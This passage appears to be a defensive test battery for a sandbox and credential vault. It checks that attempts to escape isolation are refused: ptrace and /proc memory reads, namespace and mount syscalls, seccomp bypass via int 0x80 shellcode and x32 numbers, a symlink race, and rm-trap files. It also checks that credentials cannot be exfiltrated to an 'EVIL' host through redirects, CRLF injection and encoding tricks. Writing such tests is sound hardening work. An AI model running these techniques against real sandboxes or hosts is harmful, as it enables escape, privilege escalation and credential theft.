    ids = subprocess.run([target, '-p', '-c', 'id -u'], capture_output=True, text=True).stdout.strip()
    seen = denied(lambda: os.chown(target, 0, 0), REFUSED | {errno.EINVAL})
    if ids != '1000':
        raise Breach('it ran as %s' % ids)
    return 'runs as oneself; chown: ' + seen


@attempt('files', 'file capabilities')
def file_capabilities():
    subprocess.run(['cp', '/bin/sh', '/work/capable'], check=True)
    value = struct.pack('<IIIII', 0x02000001, 0xffffffff, 0, 0xffffffff, 0)
    return denied(lambda: os.setxattr('/work/capable', 'security.capability', value), REFUSED | {errno.ENOTSUP, errno.EINVAL})


@attempt('files', 'leave the disk limit by another project id, make files immutable, freeze the disk')
def disk_ioctls():
    file = os.open('/work/quota', os.O_CREAT | os.O_RDWR)
    seen = set()
    attributes = bytearray(28)
    try:
        fcntl.ioctl(file, 0x801c581f, attributes)
        struct.pack_into('=I', attributes, 12, 4242)
        seen.add(denied(lambda: fcntl.ioctl(file, 0x401c5820, bytes(attributes)), REFUSED | {errno.EINVAL, errno.ENOTTY, errno.EOPNOTSUPP}))
    except OSError as problem:
        seen.add(errno.errorcode[problem.errno])
    seen.add(denied(lambda: fcntl.ioctl(file, 0x40086602, struct.pack('l', 0x10)), REFUSED | {errno.ENOTTY, errno.EOPNOTSUPP}))
    seen.add(denied(lambda: fcntl.ioctl(file, 0xc0045877, 0), REFUSED | {errno.ENOTTY, errno.EOPNOTSUPP}))
    return ', '.join(sorted(seen))


@attempt('files', 'leave behind what is hard to remove: depth, modes, links out, pipes, odd names')
def mess():
    os.makedirs('/work/mess', exist_ok=True)
    os.chdir('/work/mess')
    for _ in range(600):
        os.mkdir('d' * 200)
        os.chdir('d' * 200)
    os.chdir('/work/mess')
    # If cleaning up followed it, the machine would lose what it points to.
    os.symlink(WORLD['host_victim'], 'victim')
    os.symlink('/', 'root')
    os.mkfifo('pipe')
    open(b'\xff\xfe\n\t-rf', 'w').close()
    os.mkdir('locked')
    open('locked/file', 'w').close()
    os.chmod('locked', 0)
    return 'left; the test looks at the machine afterwards'


@attempt('files', 'a race: a folder that is a link every other moment, while the API lists nothing outside')
def link_race():
    # Both sides of the swap are the sandbox's; what must never show is the machine's file.
    os.makedirs('/work/race/real', exist_ok=True)
    hits, end = 0, time.monotonic() + 0.3
    flip = os.fork()
    if flip == 0:
        while time.monotonic() < end:
            try:
                os.symlink(os.path.dirname(WORLD['host_file']), '/work/race/flip')
                os.unlink('/work/race/flip')
                os.mkdir('/work/race/flip')
                os.rmdir('/work/race/flip')
            except OSError:
                pass
        os._exit(0)
    name = os.path.basename(WORLD['host_file'])
    while time.monotonic() < end:
        try:
            open('/work/race/flip/' + name).read()
            hits += 1
        except OSError:
            pass
    os.waitpid(flip, 0)
    if hits:
        raise Breach('read %d times' % hits)
    return 'never'


# -------------------------------------------------------------------------------------------------------------- process

def parent(pid):
    return next(int(line.split()[1]) for line in open('/proc/%d/status' % pid) if line.startswith('PPid'))


def guest():
    """The one between init and the shell that runs this program."""
    pid = os.getpid()
    while parent(pid) != 1:
        pid = parent(pid)
    return pid


@attempt('process', 'see processes of the machine')
def foreign_processes():
    words = {pid: open('/proc/%d/cmdline' % pid, 'rb').read() for pid in map(int, filter(str.isdigit, os.listdir('/proc')))}
    strange = [text for text in words.values() if b'\0serve' in text or b'\0sidecar' in text or b'systemd' in text]
    if strange or len(words) > 40:
        raise Breach('%d processes, among them %r' % (len(words), strange))
    return 'only %d of the sandbox' % len(words)


@many('process', [
    ('ptrace_attach', 'attach to guest and init', 16), ('ptrace_seize', 'seize guest and init', 0x4206), ('ptrace_traceme', 'be traced', 0)])
def trace(request):
    return ', '.join(sorted({refused(call('ptrace', request, pid, 0, 0)) for pid in (1, guest())}))


@many('process', [('vm_read', 'process_vm_readv of guest and init', 'process_vm_readv'), ('vm_write', 'process_vm_writev', 'process_vm_writev')])
def vm(name):
    buffer = ctypes.create_string_buffer(64)
    vector = struct.pack('=QQ', ctypes.addressof(buffer), 64)
    return ', '.join(sorted({refused(call(name, pid, vector, 1, vector, 1, 0)) for pid in (1, guest(), os.getppid())}))


@many('process', [(name, '/proc/PID/%s of guest and init' % name, name) for name in ('mem', 'environ', 'maps', 'auxv', 'stack', 'syscall', 'pagemap', 'io')])
def proc_file(name):
    def read(pid):
        with open('/proc/%d/%s' % (pid, name), 'rb', 0) as file:
            return file.read(10)
    return ', '.join(sorted({denied(lambda: read(pid)) for pid in (1, guest())}))


@attempt('process', 'the guest\'s descriptors: its link to the sidecar')
def guest_link():
    seen = set()
    for pid in (1, guest()):
        seen.add(denied(lambda: os.listdir('/proc/%d/fd' % pid)))
        for number in range(20):
            seen.add(denied(lambda: os.open('/proc/%d/fd/%d' % (pid, number), os.O_RDWR)))
    return ', '.join(sorted(seen))


@attempt('process', 'pidfd_getfd: take the guest\'s link away')
def guest_link_by_pidfd():
    seen = set()
    for pid in (1, guest(), os.getppid()):
        pidfd = os.pidfd_open(pid)
        seen |= {refused(call('pidfd_getfd', pidfd, number, 0)) for number in range(8)}
    return ', '.join(sorted(seen))


@attempt('process', 'talk to every socket that has a name')
def named_sockets():
    names = [line.split()[7] for line in open('/proc/net/unix').read().splitlines()[1:] if len(line.split()) > 7]
    for name in names:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect('\0' + name[1:] if name.startswith('@') else name)
        raise Breach('%s can be talked to' % name)
    return 'there are none'


@attempt('process', 'every signal to pid 1')
def signal_init():
    for number in range(1, 65):
        try:
            os.kill(1, number)
        except (PermissionError, OSError):
            pass
    os.kill(1, 0)
    if open('/proc/1/comm').read() == '':
        raise Breach('init is gone')
    return 'init is still there'


@many('process', [
    ('setuid_root', 'setuid(0)', 'setuid', 0), ('setgid_root', 'setgid(0)', 'setgid', 0), ('setresuid', 'setresuid(0, 0, 0)', 'setresuid', 0, 0, 0),
    ('setresgid', 'setresgid(0, 0, 0)', 'setresgid', 0, 0, 0), ('setuid_sidecar', 'become the sidecar\'s user', 'setuid', 2000000001)])
def become(name, *ids):
    return refused(call(name, *ids), REFUSED | {errno.EINVAL})


@attempt('process', 'all capabilities, and ambient ones')
def capabilities():
    header = struct.pack('=Ii', 0x20080522, 0)
    every = struct.pack('=IIIIII', *[0xffffffff] * 3, *[0x1ff] * 3)
    seen = {refused(call('capset', header, every)), refused(-LIBC_prctl(47, 2, 21, 0, 0))}
    lines = [line for line in open('/proc/self/status') if line.startswith('Cap')]
    if any(int(line.split()[1], 16) for line in lines):
        raise Breach(''.join(lines))
    return ', '.join(sorted(seen)) + '; none held'


def LIBC_prctl(*arguments):
    """Zero, or the error number."""
    return ctypes.get_errno() if LIBC.prctl(*[ctypes.c_ulong(a) for a in arguments]) < 0 else -1


@attempt('process', 'the set-user-id programs of the system')
def system_setuid():
    if 'NoNewPrivs:\t1' not in open('/proc/self/status').read():
        raise Breach('new privileges may be gained')
    folders = ('/usr/bin', '/usr/sbin', '/usr/libexec', '/usr/lib/openssh', '/usr/lib/dbus-1.0')
    paths = [os.path.join(folder, name) for folder in folders if os.path.isdir(folder) for name in os.listdir(folder)]
    found = [path for path in paths if os.path.isfile(path) and os.stat(path).st_mode & 0o6000]
    mounted = [line.split() for line in open('/proc/self/mountinfo')]
    loose = [words[4] for words in mounted if 'nosuid' not in words[5].split(',') and words[4] != '/']
    if loose:
        raise Breach('set-user-id works on %s' % loose)
    for path in found[:5]:
        child = subprocess.Popen([path], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            ids = {line.split()[2] for line in open('/proc/%d/status' % child.pid) if line.startswith('Uid')}
            if ids - {'1000'}:
                raise Breach('%s runs as %s' % (path, ids))
        finally:
            child.kill()
            child.wait()
    return '%d of them, no new privileges' % len(found)


@attempt('process', 'type into a terminal that others read')
def terminal():
    parent, child = os.openpty()
    return ', '.join(sorted({denied(lambda: fcntl.ioctl(child, 0x5412, b'x')), denied(lambda: fcntl.ioctl(child, 0x541c, b'\x03')),
                             refused(call('ioctl', child, 0x5412 | 0x100000000, ctypes.c_char_p(b'x')), REFUSED | {errno.EIO})}))


@attempt('process', 'hide from the kernel when memory runs out')
def oom_score():
    file = os.open('/proc/self/oom_score_adj', os.O_WRONLY)
    return denied(lambda: os.write(file, b'-1000'))


@attempt('process', 'real-time scheduling, best priority, more open files than allowed')
def greed():
    seen = {denied(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))), denied(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))}
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
        raise Breach('more files')
    except (ValueError, PermissionError):
        seen.add('EPERM')
    return ', '.join(sorted(seen))


# --------------------------------------------------------------------------------------------------------------- kernel

NAMESPACES = {'user': 0x10000000, 'mount': 0x20000, 'pid': 0x20000000, 'net': 0x40000000, 'ipc': 0x8000000, 'uts': 0x4000000, 'cgroup': 0x2000000, 'time': 0x80}


@many('kernel', [('unshare_' + name, 'unshare a %s namespace' % name, flag) for name, flag in NAMESPACES.items()])
def unshare(flag):
    return refused(call('unshare', flag))


@many('kernel', [('clone_' + name, 'clone into a new %s namespace' % name, flag) for name, flag in NAMESPACES.items() if name != 'time'])
def clone(flag):
    result = call('clone', flag | signal.SIGCHLD, 0, 0, 0, 0)
    if result == 0:
        os._exit(0)
    return refused(result)


@attempt('kernel', 'clone3, whose flags no filter sees')
def clone3():
    arguments = ctypes.create_string_buffer(struct.pack('=Q', 0x10000000) + struct.pack('=QQQQ', 0, 0, 0, signal.SIGCHLD) + bytes(48))
    result = call('clone3', arguments, 88)
    if result == 0:
        os._exit(0)
    return refused(result, {errno.ENOSYS})


@attempt('kernel', 'enter namespaces of other processes')
def setns():
    seen = set()
    for kind in ('mnt', 'net', 'user', 'pid', 'uts', 'ipc', 'cgroup'):
        file = os.open('/proc/self/ns/' + kind, os.O_RDONLY)
        seen.add(refused(call('setns', file, 0)))
    seen.add(refused(call('setns', os.pidfd_open(os.getppid()), 0x20000)))
    return ', '.join(sorted(seen))


BUFFER = ctypes.create_string_buffer(4096)


@many('kernel', [
    ('fsopen', 'the new mount interface: open', 'fsopen', b'tmpfs', 0), ('fsmount', 'the same: mount', 'fsmount', 0, 0, 0),
    ('fsconfig', 'the same: configure', 'fsconfig', 0, 6, 0, 0, 0), ('fspick', 'the same: pick', 'fspick', -100, b'/', 0),
    ('open_tree', 'clone a mount tree', 'open_tree', -100, b'/', 1), ('move_mount', 'move a mount', 'move_mount', -100, b'/work', -100, b'/usr', 0),
    ('mount_setattr', 'make mounts writable', 'mount_setattr', -100, b'/', 0x8000, BUFFER, 32), ('open_tree_attr', 'clone with attributes', 467, -100, b'/', 1, BUFFER, 32),
    ('chroot', 'chroot', 'chroot', b'/tmp'), ('pivot_root', 'pivot_root', 'pivot_root', b'/', b'/'),
    ('bpf_prog', 'load a BPF program', 'bpf', 5, BUFFER, 120), ('bpf_map', 'make a BPF map', 'bpf', 0, BUFFER, 72),
    ('perf', 'performance counters', 'perf_event_open', BUFFER, 0, -1, -1, 0), ('userfaultfd', 'userfaultfd', 'userfaultfd', 1),
    ('io_uring_setup', 'io_uring', 'io_uring_setup', 8, BUFFER), ('io_uring_enter', 'io_uring, enter', 'io_uring_enter', 0, 0, 0, 0, 0, 0),
    ('keyctl_session', 'join another session keyring', 'keyctl', 1, b'x'), ('keyctl_read', 'read the user\'s keyring', 'keyctl', 11, -4, BUFFER, 4096),
    ('add_key', 'add a key', 'add_key', b'user', b'x', b'y', 1, -4), ('request_key', 'ask the machine for a key', 'request_key', b'user', b'x', b'', -4),
    ('kexec', 'load another kernel', 'kexec_load', 0, 0, 0, 0), ('init_module', 'load a module', 'init_module', BUFFER, 4096, b''),
    ('finit_module', 'load a module from a file', 'finit_module', 0, b'', 0), ('delete_module', 'remove a module', 'delete_module', b'ext4', 0x800),
    ('handle_at', 'open files by forged handles', 'open_by_handle_at', -100, BUFFER, 0), ('name_to_handle', 'learn handles', 'name_to_handle_at', -100, b'/', BUFFER, BUFFER, 0),
    ('quotactl', 'change quotas', 'quotactl', 0x800002, b'/dev/vda', 0, 0), ('swapon', 'swap to a file', 'swapon', b'/work/x', 0), ('swapoff', 'stop swapping', 'swapoff', b'/x'),
    ('reboot', 'reboot', 'reboot', 0xfee1dead, 672274793, 0x89abcdef, 0), ('clock_settime', 'set the clock', 'clock_settime', 0, BUFFER),
    ('settimeofday', 'set the clock the old way', 'settimeofday', BUFFER, 0), ('adjtimex', 'bend the clock', 'adjtimex', BUFFER),
    ('acct', 'process accounting into a file', 'acct', b'/work/acct'), ('syslog', 'read the kernel\'s log', 'syslog', 3, BUFFER, 4096),
    ('syslog_clear', 'clear the kernel\'s log', 'syslog', 5, 0, 0), ('sethostname', 'rename the machine', 'sethostname', b'hostile', 7),
    ('setdomainname', 'rename its domain', 'setdomainname', b'hostile', 7), ('fanotify', 'watch all files', 'fanotify_init', 0, 0),
    ('kcmp', 'compare kernel pointers', 'kcmp', 1, 1, 0, 0, 0), ('vhangup', 'hang up the terminal', 'vhangup'), ('lookup_dcookie', 'paths by cookies', 'lookup_dcookie', 0, BUFFER, 4096),
    *([('iopl', 'input and output ports', 'iopl', 3), ('ioperm', 'a single port', 'ioperm', 0x80, 1, 1), ('modify_ldt', 'a segment of one\'s own', 'modify_ldt', 1, BUFFER, 16)]
      if 'iopl' in SYS else [])])
def kernel_call(name, *arguments):
    return refused(call(name, *arguments))


@attempt('kernel', 'message queues in kernel memory')
def message_queue():
    return refused(call('mq_open', b'hostile', os.O_CREAT | os.O_RDWR, 0o600, 0), REFUSED | {errno.EMFILE})


@attempt('kernel', 'another personality, and what it opens')
def personality():
    seen = []
    for persona in (0x0008, 0x0400000, 0x0100000):
        call('personality', persona)
        seen.append(refused(call('mount', b'none', b'/tmp', b'tmpfs', 0, 0)))
        seen.append(refused(call('unshare', 0x10000000)))
    return ', '.join(sorted(set(seen)))


@attempt('kernel', 'a second filter that allows everything, then a mount')
def refilter():
    program = ctypes.create_string_buffer(struct.pack('=HBBI', 0x06, 0, 0, 0x7fff0000))
    header = ctypes.create_string_buffer(struct.pack('=HxxxxxxQ', 1, ctypes.addressof(program)))
    installed = call('seccomp', 1, 0, header)
    if installed != 0:
        raise RuntimeError('the filter was not installed: %d' % installed)
    return 'installed; the mount: ' + refused(call('mount', b'none', b'/tmp', b'tmpfs', 0, 0))


@attempt('kernel', 'switch the filter off')
def unfilter():
    if LIBC_prctl(22, 0, 0, 0, 0) == -1:
        raise Breach('seccomp mode 0')
    if LIBC_prctl(38, 0, 0, 0, 0) == -1:
        raise Breach('new privileges again')
    return 'EINVAL both'


if os.uname().machine == 'x86_64':
    def machine_code(code):
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        return ctypes.CFUNCTYPE(ctypes.c_int)(address)()

    @many('kernel', [('int80_' + name, '%s by the 32-bit entry of the kernel' % name, number, first) for name, number, first in
                     [('getpid', 20, 0), ('unshare', 310, 0x10000000), ('ptrace', 26, 0), ('mount', 21, 0), ('keyctl', 288, 0), ('socketcall', 102, 1), ('clone', 120, 0x10000011)]])
    def int80(number, first):
        # mov eax, number; mov ebx, first; xor ecx, ecx; xor edx, edx; int 0x80; ret
        code = b'\x53\xb8' + struct.pack('<I', number) + b'\xbb' + struct.pack('<I', first) + b'\x31\xc9\x31\xd2\x31\xf6\x31\xff\xcd\x80\x5b\xc3'
        child = os.fork()
        if child == 0:
            result = machine_code(code)
            os._exit(0 if result >= 0 or -result not in (errno.EPERM, errno.ENOSYS) else 1)
        status = os.waitpid(child, 0)[1]
        if os.WIFSIGNALED(status) and os.WTERMSIG(status) in (signal.SIGSYS, signal.SIGSEGV):
            return 'killed by ' + signal.Signals(os.WTERMSIG(status)).name
        if status == 256:
            return 'refused'
        raise Breach('the call was let through: status %d' % status)

    @many('kernel', [('x32_' + name, '%s by its x32 number' % name, name, *arguments) for name, *arguments in
                     [('unshare', 0x10000000), ('mount', b'none', b'/tmp', b'tmpfs', 0, 0), ('socket', 17, 3, 0), ('bpf', 0, BUFFER, 72), ('getpid',)]])
    def x32(name, *arguments):
        return refused(call(SYS[name] | 0x40000000, *arguments), {errno.ENOSYS, errno.EPERM})

    @many('kernel', [('high_' + name, '%s with the upper half of its number or argument set' % name, name, *arguments) for name, *arguments in
                     [('unshare', 0x10000000 | 1 << 40), ('socket', 17 | 1 << 32, 3, 0), ('clone', 0x10000011 | 1 << 33, 0, 0, 0, 0)]])
    def high_bits(name, *arguments):
        result = call(name, *arguments)
        if result == 0 and name == 'clone':
            os._exit(0)
        return refused(result)


# ---------------------------------------------------------------------------------------------------------- credentials

@attempt('secrets', 'environment, arguments and memory of every process; every file; every descriptor')
def everywhere():
    needles = {name: value.encode() for name, value in CANARIES.items()}
    looked, kept_out = 0, 0

    def look(data, where):
        nonlocal looked
        looked += len(data)
        for name, needle in needles.items():
            if needle in data:
                raise Breach('%s is in %s' % (name, where))

    own = {os.getpid(), os.getppid()}
    for pid in map(int, filter(str.isdigit, os.listdir('/proc'))):
        for name in ('environ', 'cmdline', 'maps', 'status', 'stat', 'limits'):
            try:
                look(open('/proc/%d/%s' % (pid, name), 'rb').read(), '%s of %d' % (name, pid))
            except OSError:
                kept_out += 1
        if pid in own:
            continue
        try:
            maps, memory = open('/proc/%d/maps' % pid).read().splitlines(), open('/proc/%d/mem' % pid, 'rb', 0)
        except OSError:
            kept_out += 1
            continue
        for line in maps:
            if match := re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line):
                start, end = (int(part, 16) for part in match.groups())
                try:
                    memory.seek(start)
                    look(memory.read(min(end - start, 64 << 20)), 'memory of %d' % pid)
                except (OSError, ValueError, OverflowError):
                    pass
    for top in ('/work', '/home', '/tmp', '/run', '/etc', '/dev/shm', '/var', '/opt/lap/harness'):
        for folder, _, files in os.walk(top):
            for name in files:
                path = os.path.join(folder, name)
                if os.path.isfile(path):
                    try:
                        look(open(path, 'rb').read(32 << 20), path)
                    except OSError:
                        kept_out += 1
    if looked < 1 << 16 or kept_out == 0:
        raise RuntimeError('the search saw %d bytes' % looked)
    return 'looked at %d bytes, kept out of %d places' % (looked, kept_out)


@attempt('secrets', 'the legitimate use, so that the rest means something')
def control():
    answer = get('/plain', bearer())
    if answer.status != 200 or answer.headers.get('x-got') != 'real':
        raise RuntimeError('the credential did not arrive: %r' % answer.raw)
    if stub('BOUND_TOKEN').encode() not in answer.body:
        raise RuntimeError('no stub came back: %r' % answer.raw)
    return 'the real value arrived, its stub came back'


REFLECTIONS = [
    ('plain', 'plainly'), ('json', 'inside JSON'), ('percent', 'percent-encoded'), ('percent-lower', 'percent-encoded, small letters'), ('base64', 'as base64'),
    ('base64-1', 'as base64, one byte shifted'), ('base64-2', 'as base64, two bytes shifted'), ('base64url', 'as URL-safe base64'), ('basic', 'as a Basic credential'),
    ('hex', 'as hexadecimal digits'), ('HEX', 'as large hexadecimal digits'), ('gzip', 'packed with gzip'), ('deflate', 'packed with deflate'), ('br', 'packed with brotli'),
    ('zstd', 'packed with zstd'), ('GZIP', 'packed with a coding in capitals'), ('x-gzip', 'packed with x-gzip'), ('gzip-members', 'in two gzip members'),
    ('gzip-te', 'packed by Transfer-Encoding'), ('gzip-twice', 'packed twice'), ('gzip-twice-headers', 'packed twice, said in two headers'), ('unknown', 'in a coding nobody knows'),
    ('chunks', 'in chunks of one byte'), ('chunk-ext', 'in chunk extensions'), ('drip', 'byte by byte with pauses'), ('close', 'without a length'), ('partial', 'as a range nobody asked for'),
    ('header', 'in a header'), ('header-name', 'as the name of a header'), ('header-base64', 'in a header as base64'), ('cookie', 'in a cookie'), ('location', 'in a redirection'),
    ('reason', 'as the reason beside the status'), ('early', 'in early hints'), ('trailer', 'in a trailer'), ('trailer-name', 'as the name of a trailer'), ('error', 'in an error page'),
    ('multipart', 'in a multipart body'), ('large', 'after a megabyte'), ('twice', 'many times over'), ('obs-fold', 'in a folded header'), ('www-auth', 'in a challenge')]


@many('secrets', [('reflect_' + how.replace('-', '_'), 'the server sends the value back ' + words, how) for how, words in REFLECTIONS])
def reflect(how):
    answer = get('/' + how, bearer(), 'Accept-Encoding: gzip, deflate, br, zstd', 'TE: trailers')
    if answer.headers.get('x-got') == 'real':
        return '%d, scrubbed' % answer.status
    if answer.blocked in ('encoding', 'upstream'):
        return '%d %s' % (answer.status, answer.blocked)
    raise RuntimeError('unexpected: %r' % answer.raw[:300])


@many('secrets', [('range_' + name, 'read the value byte by byte with ' + words, headers) for name, words, headers in [
    ('plain', 'Range', ['Range: bytes=%d-%d']), ('if', 'If-Range', ['Range: bytes=%d-%d', 'If-Range: "x"']), ('request', 'Request-Range', ['Request-Range: bytes=%d-%d']),
    ('websocket', 'Range in a WebSocket handshake', ['Range: bytes=%d-%d', 'Upgrade: websocket', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13'])]])
def ranges(headers):
    learned = b''
    for at in range(8):
        extra = [line % (at, at) if '%d' in line else line for line in headers]
        closing = 'Connection: upgrade' if any('websocket' in line for line in headers) else 'X-Nothing: 1'
        answer = get('/range', bearer(), closing, *extra)
        learned += answer.body if len(answer.body) == 1 else b'?'
    if learned.decode('latin-1') == CANARIES['BOUND_TOKEN'][:8]:
        raise Breach('the first bytes were learned')
    if b'?' not in learned:
        raise RuntimeError('single bytes, but others: %r' % learned)
    return 'the whole answer came each time'


@attempt('secrets', 'an answer in a coding the vault cannot read, to a WebSocket handshake that is refused')
def websocket_coding():
    answer = get('/unknown', bearer(), 'Upgrade: websocket', 'Connection: upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13')
    return blocked(answer, 'encoding')


@attempt('secrets', 'the value in WebSocket frames from the server')
def websocket_frames():
    answer = get('/ws', bearer(), 'Upgrade: websocket', 'Connection: upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13',
                 'Sec-WebSocket-Extensions: permessage-deflate')
    if answer.status != 101 or stub('BOUND_TOKEN').encode() not in answer.raw:
        raise RuntimeError('no frame came: %r' % answer.raw[:300])
    return 'a frame came, with the stub'


@attempt('secrets', 'an answer smuggled behind another, for the next request to find')
def response_smuggling():
    for _ in range(4):
        get('/extra', bearer())
        if b'smuggled' in get('/plain', bearer()).body:
            raise Breach('the next request got the smuggled answer')
    return 'never seen'


@many('secrets', [('redirect_%d' % status, 'a redirection to another host, followed with the credential', status) for status in (301, 302, 307, 308)])
def redirect(status):
    to = 'https://%s:%d/stolen' % (EVIL['name'], EVIL['tls'])
    answer = get('/redirect?status=%d&to=%s' % (status, urllib.parse.quote(to, safe='')), bearer())
    if answer.headers.get('location') != to:
        raise RuntimeError('no redirection: %r' % answer.raw)
    return blocked(get('/stolen', bearer(), host=EVIL['name'], port=EVIL['tls']), 'misdirected_stub')


WRONG = [
    ('authorization', 'Authorization: Bearer {}'), ('basic', 'Authorization: Basic {basic}'), ('basic_user', 'Authorization: Basic {basic_user}'), ('token', 'Authorization: token {}'),
    ('proxy', 'Proxy-Authorization: Bearer {}'), ('cookie', 'Cookie: a=b; session={}; c=d'), ('api_key', 'x-api-key: {}'), ('custom', 'X-Custom-Token: {}'), ('gitlab', 'PRIVATE-TOKEN: {}'),
    ('inner', 'Authorization: Bearer xx{}yy'), ('capitals', 'AUTHORIZATION: bEaReR {}'), ('tabs', 'Authorization:\t Bearer\t{}'), ('ws', 'Sec-WebSocket-Protocol: bearer, {}'),
    ('amz', 'X-Amz-Security-Token: {}'), ('forwarded_auth', 'X-Forwarded-Authorization: Bearer {}')]


def filled(text, value):
    basic, user = base64.b64encode(b'user:' + value.encode()).decode(), base64.b64encode(value.encode() + b':x').decode()
    return text.format(value, basic=basic, basic_user=user)


@many('secrets', [('wrong_host_' + name, 'toward another host in `%s`' % text.split(':')[0], text) for name, text in WRONG])
def wrong_host(text):
    return blocked(get('/wrong', filled(text, stub('BOUND_TOKEN')), host=EVIL['name'], port=EVIL['tls']), 'misdirected_stub')


def as_text(*arguments, host=None, port=None, **more):
    """A request that passes with the stub in it as plain text; the test looks at what arrived."""
    answer = get(*arguments, host=host or EVIL['name'], port=port or EVIL['tls'], **more)
    if answer.status != 200 or answer.headers.get('x-got') == 'real':
        raise Breach('%d %s %s' % (answer.status, answer.blocked, answer.headers.get('x-got')))
    return 'passed as text, a stub it stays'


PLACES = [('query', '/q?token={}', [], b''), ('path', '/p/{}/x', [], b''), ('body', '/b', [], b'text {} text'), ('json', '/b', ['Content-Type: application/json'], b'{{"comment": "{}"}}'),
          ('form', '/b', ['Content-Type: application/x-www-form-urlencoded'], b'comment={}'), ('header', '/h', ['X-Comment: {}'], b''), ('user_agent', '/h', ['User-Agent: {}'], b''),
          ('referer', '/h', ['Referer: https://x/{}'], b''), ('forwarded', '/h', ['X-Forwarded-For: {}'], b'')]


@many('secrets', [('%s_in_%s' % (where, name), 'publish one\'s own stub in the %s, on %s' % (name, 'its own host' if where == 'bound' else 'another host'), where, path, headers, body)
                  for where in ('bound', 'evil') for name, path, headers, body in PLACES])
def published(where, path, headers, body):
    value = stub('BOUND_TOKEN')
    host = (BOUND if where == 'bound' else EVIL)
    return as_text(path.format(value), *[line.format(value) for line in headers], host=host['name'], port=host['tls'], method='POST' if body else 'GET',
                   body=body.replace(b'{}', value.encode()))


@attempt('secrets', 'publish it together with a legitimate use of the same credential')
def published_beside():
    value = stub('BOUND_TOKEN')
    answer = get('/echo-body', bearer(), 'Content-Type: application/json', method='POST', body=json.dumps({'comment': value}).encode())
    if answer.headers.get('x-got') != 'real' or answer.headers.get('x-body') != 'clean':
        raise Breach('the body arrived with %s' % answer.headers.get('x-body'))
    return 'the header was swapped, the comment was not'


@many('secrets', [(name, words, build) for name, words, build in [
    ('encoded_twice', 'the stub percent-encoded twice in the query', lambda s: ('/q?x=' + urllib.parse.quote(''.join('%%%02x' % b for b in s.encode())), [])),
    ('encoded_once', 'the stub percent-encoded in the path', lambda s: ('/p/' + ''.join('%%%02x' % b for b in s.encode()), [])),
    ('basic_in_basic', 'Basic inside Basic', lambda s: ('/x', ['Authorization: Basic ' + base64.b64encode(b'a:' + base64.b64encode(s.encode())).decode()])),
    ('base64_bearer', 'the stub as base64 in a Bearer', lambda s: ('/x', ['Authorization: Bearer ' + base64.b64encode(s.encode()).decode()])),
    ('digest', 'the stub in two halves of one header', lambda s: ('/x', ['Authorization: Digest a="%s", b="%s"' % (s[:12], s[12:])])),
    ('two_headers', 'the stub in two halves of a repeated header', lambda s: ('/x', ['X-Auth-Token: ' + s[:12], 'X-Auth-Token: ' + s[12:]])),
    ('capital_stub', 'the stub in capitals', lambda s: ('/x', ['Authorization: Bearer ' + s.upper()])),
    ('shortened', 'the stub without its last digit', lambda s: ('/x', ['Authorization: Bearer ' + s[:-1]]))]])
def disguised(build):
    path, headers = build(stub('BOUND_TOKEN'))
    return as_text(path, *headers)


@attempt('secrets', 'the stub split over chunks of a body, toward its own host')
def split_chunks():
    value = stub('BOUND_TOKEN').encode()
    chunks = b''.join(b'1\r\n%c\r\n' % byte for byte in value) + b'0\r\n\r\n'
    head = 'POST /b HTTP/1.1\r\nHost: %s:%d\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n' % (BOUND['name'], BOUND['tls'])
    answer = talk([head.encode()] + [chunks[i:i + 7] for i in range(0, len(chunks), 7)])
    if answer.headers.get('x-body') != 'clean':
        raise Breach('the body arrived with %s' % answer.headers.get('x-body'))
    return 'a stub it stays'


@attempt('secrets', 'the stub in a trailer of the request')
def request_trailer():
    head = 'POST /b HTTP/1.1\r\nHost: %s:%d\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\nConnection: close\r\n\r\n' % (EVIL['name'], EVIL['tls'])
    answer = talk(head.encode() + b'1\r\nx\r\n0\r\nAuthorization: Bearer ' + stub('BOUND_TOKEN').encode() + b'\r\n\r\n', EVIL['name'], EVIL['tls'])
    if answer.headers.get('x-got') == 'real':
        raise Breach('it arrived')
    return 'answered %d without the value' % answer.status


INJECTIONS = [('bearer', '/x', 'Authorization: Bearer {}', b''), ('basic', '/x', 'Authorization: Basic {basic}', b''), ('cookie', '/x', 'Cookie: a={}', b''), ('path', '/p/{}', 'X-A: 1', b''),
              ('query', '/q?a={}', 'X-A: 1', b''), ('header', '/x', 'X-Comment: {}', b'')]


@many('secrets', [('crlf_' + name, 'a value with line breaks, to write a request of one\'s own through %s' % name, path, header, body) for name, path, header, body in INJECTIONS])
def line_breaks(path, header, body):
    value = stub('CRLF_TOKEN')
    answer = get(path.format(value), filled(header, value))
    if answer.blocked == 'unusable_secret':
        return '403 unusable_secret'
    if answer.headers.get('x-injected') == 'yes':
        raise Breach('the injected header arrived')
    if answer.status == 200 and (path.startswith(('/p/', '/q')) or 'Basic' in header):
        return 'carried in a coding, no line was made of it'
    raise Breach('%d %s: %r' % (answer.status, answer.blocked, answer.raw[:200]))


@attempt('secrets', 'a value with quotes and line breaks, to change the meaning of JSON around it')
def json_injection():
    answer = get('/b', 'Content-Type: application/json', method='POST', body=b'{"a": "%s"}' % stub('CRLF_TOKEN').encode())
    if answer.headers.get('x-json') != 'whole':
        raise Breach('the JSON arrived %s' % answer.headers.get('x-json'))
    return 'escaped'


@attempt('secrets', 'a credential whose rule names no port, over plain http')
def plain_http():
    return blocked(get('/x', 'Authorization: Bearer ' + stub('NOPORT_TOKEN'), port=BOUND['plain'], tls=False), 'misdirected_stub')


